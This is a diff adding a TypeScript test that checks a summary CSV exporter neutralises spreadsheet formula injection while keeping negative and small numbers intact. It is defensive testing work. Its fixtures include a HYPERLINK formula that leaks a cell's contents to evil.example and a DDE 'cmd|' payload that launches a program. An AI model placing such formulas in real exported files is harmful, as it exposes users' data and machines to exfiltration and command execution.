@@ -243,3 +243,28 @@ test('a saliency method a model cannot produce is refused naming the model, befo
   assert.equal(segmented.saliency, undefined);
   assert.equal(segmented.timingsMs.saliency, undefined, 'no saliency time is reported when no map was made');
 });
+
+test('summary.csv: formula-like cells are neutralised with a leading apostrophe; numbers, negative ones too, stay intact', async () => {
+  const { writeSummary } = await import('./analyze.ts');
+  const out = mkdtempSync(join(tmpdir(), 'neoscope-summary-'));
+  const row = { model: 'ctr', version: '1.0.0', backend: 'wasm', ms: 12 };
+  await writeSummary(out, [
+    { key: 'k1', input: '=HYPERLINK("http://evil.example/?"&A1,"open")', status: 'done', outputs: 'img', results: [{ ...row, label: '-0.25', score: -0.25 }, { ...row, label: '+1', score: 1e-7 }] },
+    { key: 'k2', input: "-cmd|' /C calc'!A0", status: 'failed', code: 'DICOM_X', message: '@SUM(1+1)*cmd|' },
+    { key: 'k3', input: '+A1', status: 'failed', code: 'DICOM_X', message: '\tTAB=1' },
+    { key: 'k4', input: '\r=1+1', status: 'failed', code: 'DICOM_X', message: '-2.5e-3' },
+  ]);
+  const lines = readFileSync(join(out, 'summary.csv'), 'utf8').trimEnd().split('\n');
+  const cells = (i: number) => lines[i]!.match(/"(?:[^"]|"")*"/g)!.map((c) => c.slice(1, -1).replace(/""/g, '"'));
+  assert.equal(cells(1)[0], `'=HYPERLINK("http://evil.example/?"&A1,"open")`);
+  assert.equal(cells(1)[6], '-0.25', 'a negative number is a number');
+  assert.equal(cells(1)[7], '-0.250000');
+  assert.equal(cells(2)[6], '+1');
+  assert.equal(cells(2)[7], '0.000000');
+  assert.equal(cells(3)[0], `'-cmd|' /C calc'!A0`);
+  assert.equal(cells(3)[11], "'@SUM(1+1)*cmd|");
+  assert.equal(cells(4)[0], "'+A1");
+  assert.equal(cells(4)[11], "'\tTAB=1");
+  assert.equal(lines[5]!.startsWith(`"'\r=1+1"`), true, 'a leading carriage return is neutralised too');
+  assert.equal(cells(5)[11], '-2.5e-3');
+});
